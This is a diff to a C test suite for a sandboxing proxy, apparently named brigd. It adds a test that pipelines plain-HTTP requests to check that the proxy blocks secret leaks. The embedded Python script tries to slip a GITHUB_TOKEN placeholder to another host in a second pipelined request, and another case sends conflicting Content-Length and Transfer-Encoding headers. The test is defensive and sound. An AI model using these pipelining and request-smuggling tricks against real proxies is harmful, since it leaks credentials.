@@ -31,7 +31,9 @@
 #define FILE_VALUE "filekey-VALUE-0b8e6d2c9a714f33"
 
 /* Checks what it is sent, answers only "authenticated" or "refused", and logs each request's path; /nolength
- * answers with no length and ends the connection without TLS's close_notify. */
+ * answers with no length and ends the connection without TLS's close_notify. The last port's server (plain
+ * HTTP) answers the first request's head and logs every byte it was sent on the connection (raw.log), so
+ * that a pipelined request is seen even though an HTTP server would not read it after Connection: close. */
 static const char server_py[] =
         "import http.server, os, socket, ssl, sys, threading\n"
         "d = sys.argv[1]\n"
@@ -62,8 +64,28 @@ static const char server_py[] =
         "        h.socket = ctx.wrap_socket(h.socket, server_side=True)\n"
         "    threading.Thread(target=h.serve_forever, daemon=True).start()\n"
         "    return h.server_port\n"
-        "ports = [serve(c) for c in (None, 'good', 'badname', 'badca')]\n"
-        "with open(os.path.join(d, 'port.tmp'), 'w') as f: f.write('%d %d %d %d\\n' % tuple(ports))\n"
+        "def raw(c):\n"
+        "    data = b''\n"
+        "    while b'\\r\\n\\r\\n' not in data:\n"
+        "        b = c.recv(65536)\n"
+        "        if not b: break\n"
+        "        data += b\n"
+        "    c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 14\\r\\n\\r\\nauthenticated\\n')\n"
+        "    c.shutdown(socket.SHUT_WR)\n"
+        "    while True:\n"
+        "        b = c.recv(65536)\n"
+        "        if not b: break\n"
+        "        data += b\n"
+        "    with open(os.path.join(d, 'raw.log'), 'ab') as f: f.write(data)\n"
+        "    c.close()\n"
+        "def serve_raw():\n"
+        "    s = socket.create_server(('127.0.0.1', 0))\n"
+        "    def loop():\n"
+        "        while True: threading.Thread(target=raw, args=(s.accept()[0],), daemon=True).start()\n"
+        "    threading.Thread(target=loop, daemon=True).start()\n"
+        "    return s.getsockname()[1]\n"
+        "ports = [serve(c) for c in (None, 'good', 'badname', 'badca')] + [serve_raw()]\n"
+        "with open(os.path.join(d, 'port.tmp'), 'w') as f: f.write('%d %d %d %d %d\\n' % tuple(ports))\n"
         "os.rename(os.path.join(d, 'port.tmp'), os.path.join(d, 'port'))\n"
         "threading.Event().wait()\n";
 
@@ -88,7 +110,7 @@ static const char certs_sh[] =
 static struct {
         char dir[64];
         pid_t server;
-        int port, tls_port, badname_port, badca_port;
+        int port, tls_port, badname_port, badca_port, raw_port;
         brigd d;
         bool started;
         const char *skip;
@@ -134,9 +156,9 @@ static void write_policy(const char *name, const char *secrets) {
                  "\"optional\":true}],\"tmpfs\":[{\"path\":\"/tmp\",\"size\":\"64M\",\"mode\":\"1777\"}]},"
                  "\"env\":{\"PATH\":\"/usr/bin:/bin\",\"HOME\":\"/workspace\"},"
                  "\"network\":{\"mode\":\"proxy\",\"allow\":[\"api.test\",\"key.test\",\"other.test\","
-                 "\"badname.test\",\"badca.test\",\"*.api.test\"],\"ports\":[%d,%d,%d,%d,443],"
+                 "\"badname.test\",\"badca.test\",\"*.api.test\"],\"ports\":[%d,%d,%d,%d,%d,443],"
                  "\"allow_private\":[\"127.0.0.1/32\"],\"secrets\":[%s]}}",
-                 name, g.port, g.tls_port, g.badname_port, g.badca_port, secrets);
+                 name, g.port, g.tls_port, g.badname_port, g.badca_port, g.raw_port, secrets);
         snprintf(path, sizeof(path), "%s/%s.json", g.dir, name);
         write_file(path, policy, 0644);
 }
@@ -173,9 +195,9 @@ static int group_setup(void **state) {
         for (int i = 0; i < 500 && g.port == 0; i++) {
                 FILE *f = fopen(path, "r");
                 if (f) {
-                        assert_int_equal(fscanf(f, "%d %d %d %d", &g.port, &g.tls_port, &g.badname_port,
-                                                &g.badca_port),
-                                         4);
+                        assert_int_equal(fscanf(f, "%d %d %d %d %d", &g.port, &g.tls_port, &g.badname_port,
+                                                &g.badca_port, &g.raw_port),
+                                         5);
                         fclose(f);
                         break;
                 }
@@ -534,6 +556,77 @@ static void test_secrets__https_pipelined_request_is_checked(void **state) {
         assert_false(server_saw("/pipe-leak"));
 }
 
+/* The same in plain HTTP, where the relay would otherwise pass on all the client sends: two requests written
+ * at once, the first with a body; the second's placeholder for another host is refused after the first's
+ * answer, audited, and never sent upstream — to a secret's host or to any other. */
+static const char plain_pipelined_py[] =
+        "import os, socket, sys, urllib.parse\n"
+        "host, port, token = sys.argv[1], int(sys.argv[2]), os.environ['GITHUB_TOKEN'].encode()\n"
+        "body = (b'Transfer-Encoding: chunked\\r\\n\\r\\n5;x=y\\r\\nhello\\r\\n0\\r\\nX-T: 1\\r\\n\\r\\n'\n"
+        "        if sys.argv[3] == 'chunked' else b'Content-Length: 5\\r\\n\\r\\nhello')\n"
+        "p = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])\n"
+        "s = socket.create_connection((p.hostname, p.port))\n"
+        "u = b'http://%s:%d/plain-pipe' % (host.encode(), port)\n"
+        "s.sendall(b'POST ' + u + b'-one HTTP/1.1\\r\\nHost: x\\r\\n' + body +\n"
+        "          b'GET ' + u + b'-leak HTTP/1.1\\r\\nHost: x\\r\\nX-Token: ' + token + b'\\r\\n\\r\\n')\n"
+        "out = b''\n"
+        "while True:\n"
+        "    d = s.recv(65536)\n"
+        "    if not d: break\n"
+        "    out += d\n"
+        "sys.stdout.write(out.decode())\n";
+
+static bool raw_server_saw(const char *text) {
+        char log[256], data[1 << 16];
+        snprintf(log, sizeof(log), "%s/raw.log", g.dir);
+        FILE *f = fopen(log, "r");
+        size_t n = f ? fread(data, 1, sizeof(data) - 1, f) : 0;
+        if (f)
+                fclose(f);
+        data[n] = 0;
+        return strstr(data, text) != NULL;
+}
+
+static void test_secrets__plain_pipelined_request_is_checked(void **state) {
+        /* A secret's host (its header injected into the first request) and a host without secrets. */
+        static const char *const cases[][2] = {{"key.test", "length"}, {"other.test", "chunked"}};
+        (void) state;
+        int fd = attach("secrets-plain-pipe", NULL);
+
+        for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+                cJSON *r = sh(fd, (int) i + 1,
+                              "cat > /tmp/pipe.py <<'EOF'\n%sEOF\npython3 /tmp/pipe.py %s %d %s",
+                              plain_pipelined_py, cases[i][0], g.raw_port, cases[i][1]);
+                const char *out = sc_str(r, "stdout");
+                if (!strstr(out, "authenticated\n") || !strstr(out, "403 Forbidden") ||
+                    !strstr(out, "X-Brig-Reason: the placeholder of secret GITHUB_TOKEN"))
+                        fail_msg("pipelined to %s (%s): %s %s", cases[i][0], cases[i][1], out,
+                                 sc_str(r, "stderr"));
+                cJSON_Delete(r);
+                assert_secret_event("secret_exfiltration_refused", cases[i][0], "GITHUB_TOKEN",
+                                    "secrets-plain-pipe");
+        }
+        assert_true(raw_server_saw("/plain-pipe-one"));
+        assert_true(raw_server_saw("hello"));
+        assert_false(raw_server_saw("/plain-pipe-leak"));
+        assert_false(raw_server_saw("brig-secret-"));
+
+        /* A body whose end the upstream could read elsewhere is refused before anything is sent. */
+        cJSON *r = sh(
+                fd, 3,
+                "python3 -c \"import os, socket, urllib.parse as u; p = "
+                "u.urlsplit(os.environ['HTTP_PROXY']); "
+                "s = socket.create_connection((p.hostname, p.port)); "
+                "s.sendall(b'POST http://other.test:%d/plain-ambiguous HTTP/1.1\\r\\nContent-Length: 5\\r\\n"
+                "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'); print(s.recv(4096).decode())\"",
+                g.raw_port);
+        if (!strstr(sc_str(r, "stdout"), "400 Bad Request"))
+                fail_msg("ambiguous framing: %s %s", sc_str(r, "stdout"), sc_str(r, "stderr"));
+        cJSON_Delete(r);
+        assert_false(raw_server_saw("/plain-ambiguous"));
+        close(fd);
+}
+
 /* brigd's own connection upstream verifies like a client: a certificate for another name, or from a CA
  * it does not trust, is refused and nothing is sent. */
 /* What a TLS client in the jail sees at the end of a connection-delimited response: "clean" (close_notify)
@@ -814,6 +907,7 @@ int main(void) {
                 cmocka_unit_test(test_secrets__https_header_template),
                 cmocka_unit_test(test_secrets__https_placeholder_of_another_secret_is_refused),
                 cmocka_unit_test(test_secrets__https_pipelined_request_is_checked),
+                cmocka_unit_test(test_secrets__plain_pipelined_request_is_checked),
                 cmocka_unit_test(test_secrets__https_upstream_end_is_passed_on_as_it_came),
                 cmocka_unit_test(test_secrets__https_upstream_must_verify),
                 cmocka_unit_test(test_secrets__jail_trusts_its_ca),
